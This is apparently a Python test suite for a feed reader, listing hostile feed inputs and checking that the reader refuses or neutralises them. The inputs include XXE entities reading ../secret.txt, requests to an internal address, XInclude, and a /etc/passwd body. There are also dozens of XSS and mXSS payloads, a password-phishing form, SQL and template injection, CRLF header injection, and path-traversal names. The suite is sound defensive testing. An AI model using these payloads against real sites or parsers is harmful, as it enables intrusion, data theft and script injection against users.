"""Groups S and X of the catalogue of bad inputs: content that wants something opened, and markup that wants to act."""

from __future__ import annotations

import json
from html import escape

from support.hostile import HEAD, PORT, Case, World, item, rss, xml
from support.misbehaving import answer

INSIDE = f"http://127.0.0.2:{PORT}/x"
SECRET = "../secret.txt"


def dtd(declaration: str, title: str = "Item &x;") -> str:
    return rss(item(1, title=title), head=f"{HEAD}<!DOCTYPE rss [{declaration}]>")


def refused_or_plain(text: str) -> Case:
    return Case(answers=[xml(text)], outcome="ok/error")


def names(**where: str) -> Case:
    """An item that names a place inside, in one element or another."""
    return Case(answers=[xml(rss(item(1, **where)))], known=1)


JSON_FEED = {
    "version": "https://jsonfeed.org/version/1.1",
    "title": "Harbour",
    "next_url": INSIDE,
    "icon": INSIDE,
    "hubs": [{"type": "WebSub", "url": INSIDE}],
    "items": [{"id": "1", "url": "https://harbour.example/1", "title": "Item 1", "content_text": "t", "image": INSIDE}],
}

S: dict[str, Case] = {
    "S-xxe-file": refused_or_plain(dtd(f'<!ENTITY x SYSTEM "{SECRET}">')),
    "S-xxe-http": refused_or_plain(dtd(f'<!ENTITY x SYSTEM "{INSIDE}">')),
    "S-xxe-param": refused_or_plain(dtd(f'<!ENTITY % p SYSTEM "{INSIDE}"> %p;')),
    "S-dtd-remote": Case(answers=[xml(rss(head=f'{HEAD}<!DOCTYPE rss SYSTEM "{INSIDE}">'))], known=3),
    "S-xinclude": refused_or_plain(
        rss(
            item(1, more=f'<xi:include href="{SECRET}" parse="text"/><xi:include href="{INSIDE}"/>'),
            attributes=' xmlns:xi="http://www.w3.org/2001/XInclude"',
        )
    ),
    "S-xslt-pi": Case(answers=[xml(rss(head=f'{HEAD}<?xml-stylesheet type="text/xsl" href="{INSIDE}"?>'))], known=3),
    "S-schema": Case(
        answers=[
            xml(
                rss(
                    attributes=' xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" '
                    f'xsi:noNamespaceSchemaLocation="{INSIDE}"'
                )
            )
        ],
        known=3,
    ),
    "S-body-is-path": Case(answers=[answer(b"/etc/passwd")], outcome="error", known=0, lacks="root:"),
    "S-body-is-url": Case(answers=[answer(INSIDE.encode())], outcome="error", known=0),
    "S-enclosure": names(more=f'<enclosure url="{INSIDE}" type="audio/mpeg" length="1"/>'),
    "S-media": names(more=f'<media:content url="{INSIDE}" medium="image"/>'),
    "S-comments": names(more=f"<comments>{INSIDE}</comments>"),
    "S-license": names(more=f"<creativeCommons:license>{INSIDE}</creativeCommons:license>"),
    "S-link": names(link=INSIDE),
    "S-img": names(
        text=f'<img src="{INSIDE}" srcset="{INSIDE} 2x"><video poster="{INSIDE}"></video>'
        f'<picture><source srcset="{INSIDE}"></picture>'
    ),
    "S-autodiscovery": Case(
        answers=[
            answer(
                f'<html><head><link rel="alternate" type="application/rss+xml" href="{INSIDE}">'
                f'<link rel="canonical" href="{INSIDE}"></head><body>t</body></html>'.encode(),
                "Content-Type: text/html",
            )
        ],
        outcome="error/blocked/ok",
        known=0,
    ),
    "S-json-next": Case(
        answers=[answer(json.dumps(JSON_FEED).encode(), "Content-Type: application/feed+json")], known=1
    ),
}


def body(markup: str) -> Case:
    """An item whose text is this markup, between words that must stay."""
    text = f"<p>Before the harm.</p>{markup}"
    return Case(answers=[xml(rss(item(1, text=text)))], outcome="ok/error", has="Before the harm.")


def title(words: str, **more: object) -> Case:
    """An item whose title is these words, as XML."""
    return Case(answers=[xml(rss(item(1, title=words)))], **({"outcome": "ok/error"} | more))  # type: ignore[arg-type]


def atom_xhtml() -> str:
    return (
        f'{HEAD}<feed xmlns="http://www.w3.org/2005/Atom"><title>t</title><id>urn:f</id><entry><title>Item 1</title>'
        '<id>urn:1</id><updated>2026-06-01T10:00:00Z</updated><link href="https://harbour.example/1"/>'
        '<content type="xhtml"><div xmlns="http://www.w3.org/1999/xhtml"><p onclick="alert(1)">Kept.</p>'
        "<script>alert(1)</script><a href='javascript:alert(1)'>x</a></div></content></entry></feed>"
    )


def nothing_outside(world: World) -> None:
    """The runner looks at every folder; here only that the names did not become files inside either."""
    assert all(name.startswith(("all.", "index.", ".")) for name in world.printed)


BODIES = {
    "X-script-split": "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "X-script-src": "<script src=//e.example/x.js></script>",
    "X-img-onerror": "<img src=x onerror=alert(1)>",
    "X-img-slash": "<img/src=x/onerror=alert(1)//",
    "X-svg-onload": "<svg onload=alert(1)>",
    "X-svg-animate": "<svg><a><animate attributeName=href values=javascript:alert(1) /><text x=20 y=20>x</text></a>",
    "X-mxss-1": "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "X-mxss-2": '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "X-mxss-3": '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    "X-mxss-4": "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "X-template": "<template><img src=x onerror=alert(1)></template>",
    "X-iframe-js": "<iframe src=javascript:alert(1)></iframe>",
    "X-iframe-srcdoc": "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "X-object": "<object data=javascript:alert(1)></object>",
    "X-embed": "<embed src=javascript:alert(1)>",
    "X-a-js": "<a href=javascript:alert(1)>x</a>",
    "X-a-js-tab": "<a href='java\tscript:alert(1)'>x</a>",
    "X-a-js-nl": "<a href='java\nscript:alert(1)'>x</a>",
    "X-a-js-ent": "<a href='&#106;&#97;vascript:alert(1)'>x</a>",
    "X-a-js-ctrl": "<a href='&#1;javascript:alert(1)'>x</a>",
    "X-a-js-colon": "<a href='javascript&colon;alert(1)'>x</a>",
    "X-a-data": "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "X-a-data-b64": "<a href='data:text/html;base64,PHNjcmlwdD4='>x</a>",
    "X-a-blob": "<a href=blob:https://e.example/1>x</a>",
    "X-a-vbscript": "<a href=vbscript:msgbox(1)>x</a>",
    "X-a-view-source": "<a href='view-source:javascript:1'>x</a>",
    "X-img-data-svg": "<img src='data:image/svg+xml,<svg xmlns=http://www.w3.org/2000/svg onload=alert(1)>'>",
    "X-body-onload": "<body onload=alert(1)>",
    "X-marquee": "<marquee onstart=alert(1)>",
    "X-video": "<video><source onerror=alert(1)>",
    "X-input-autofocus": "<input onfocus=alert(1) autofocus>",
    "X-button-formaction": "<form><button formaction=javascript:alert(1)>x</button></form>",
    "X-form-phish": "<form action=https://e.example/><input name=password type=password></form>",
    "X-base": "<base href=https://e.example/>",
    "X-meta-refresh": "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "X-style-tag": "<style>*{background:url(https://e.example/)}</style>",
    "X-style-attr": "<p style='background:url(javascript:alert(1));position:fixed;inset:0'>",
    "X-comment-1": "<!--<img src='--><img src=x onerror=alert(1)//'>",
    "X-comment-2": "<!--!> <img src=x onerror=alert(1)> -->",
    "X-cdata-html": "<![CDATA[<script>alert(1)</script>]]>",
    "X-pi": "<?xml-stylesheet href=javascript:alert(1)?>",
    "X-unclosed-attr": '<a href="x" title="<img src=x onerror=alert(1)>',
    "X-xmp": '<xmp><p title="</xmp><svg/onload=alert(1)>">',
    "X-noembed": '<noembed><img title="</noembed><img src onerror=alert(1)>"></noembed>',
    "X-ping": "<a href=https://example.org/ ping=javascript:alert(1)>x</a>",
    "X-import": "<link rel=import href=data:text/html,x>",
    "X-isindex": "<isindex action=javascript:alert(1)>",
}

X: dict[str, Case] = {
    **{case: body(markup) for case, markup in BODIES.items()},
    "X-cdata-nested": Case(
        answers=[
            xml(
                rss(
                    item(
                        1,
                        more="<description><![CDATA[<b>kept</b>]]>]]&gt;&lt;script>alert(1)&lt;/script></description>",
                    )
                )
            )
        ],
        outcome="ok/error",
    ),
    "X-atom-xhtml": Case(answers=[xml(atom_xhtml())], known=1, has="Kept."),
    "X-link-js": Case(answers=[xml(rss(item(1, link="javascript:alert(1)")))], outcome="ok/error"),
    "X-link-js-ctrl": Case(answers=[xml(rss(item(1, link="\tjava\nscript:alert(1)")))], outcome="ok/error"),
    "X-link-data": Case(answers=[xml(rss(item(1, link="data:text/html,&lt;script>")))], outcome="ok/error"),
    "X-guid-permalink-js": Case(
        answers=[xml(rss(item(1, link="", guid='<guid isPermaLink="true">javascript:alert(1)</guid>')))],
        outcome="ok/error",
    ),
    "X-title-double": title("&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;", outcome="ok", known=1),
    "X-title-ctrl": title("a&#7;b&#8;c&#27;[31md"),
    "X-title-nul": title("a\0b"),
    "X-title-surrogate": title("a&#xD800;b"),
    "X-title-nonchar": title("a\ufffe\uffff\u0085b"),
    "X-title-crlf": Case(
        answers=[
            xml(
                rss(
                    item(
                        1,
                        title="a&#13;&#10;X-Evil: 1",
                        more="<author>b&#13;&#10;c</author><category>d&#13;e</category>",
                    )
                )
            )
        ],
        known=1,
    ),
    "X-title-template": Case(
        answers=[xml(rss(item(1, title="{{7*7}} ${7*7} {% raise %}", text="<p>{{7*7}}</p>")))], known=1, has="{{7*7}}"
    ),
    "X-title-json-close": title("&lt;/script>&lt;script>alert(1)&lt;/script>", lacks="<script>alert"),
    "X-title-sql": title("'); DROP TABLE article; --", outcome="ok", known=1, has="DROP TABLE article"),
    "X-guid-traversal": Case(
        answers=[
            xml(
                rss(
                    *(
                        item(number, guid=f"<guid isPermaLink='false'>{escape(path)}</guid>")
                        for number, path in enumerate(("../../../../pwned", "%2e%2e/%2e%2e/pwned", "/pwned\\..\\x"), 1)
                    )
                )
            )
        ],
        known=3,
        check=nothing_outside,
    ),
    "X-category-traversal": Case(
        answers=[
            xml(
                rss(
                    item(
                        1,
                        more="".join(
                            f"<category>{name}</category>"
                            for name in ("../../x", "CON", "NUL", ".htaccess", "y" * 300, "a/b")
                        ),
                    )
                )
            )
        ],
        known=1,
        check=nothing_outside,
    ),
    "X-feed-title": Case(answers=[xml(rss(title="&lt;script>alert(1)&lt;/script>Harbour"))], known=3),
}
